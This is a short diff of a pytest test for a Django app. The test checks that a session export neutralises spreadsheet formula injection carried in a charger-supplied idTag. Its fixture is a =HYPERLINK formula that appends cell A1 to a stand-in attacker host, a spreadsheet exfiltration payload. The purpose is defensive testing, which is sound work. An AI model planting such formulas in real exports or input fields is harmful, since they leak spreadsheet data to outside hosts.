@@ -43,7 +43,7 @@ def test_the_writer_neutralises_every_cell_of_a_row():
 
 @pytest.mark.django_db
 def test_session_export_neutralises_an_id_tag_sent_by_a_charger(client, mine):
-    evil = '=HYPERLINK("http://evil.example/?"&A1)'
+    evil = '=HYPERLINK("//ev.il"&A1)'  # an idTag fits in 36 characters
     ChargingSession.objects.filter(pk=mine.session.pk).update(id_tag=evil)
     mine.prop.name = "@Garage"
     mine.prop.save()
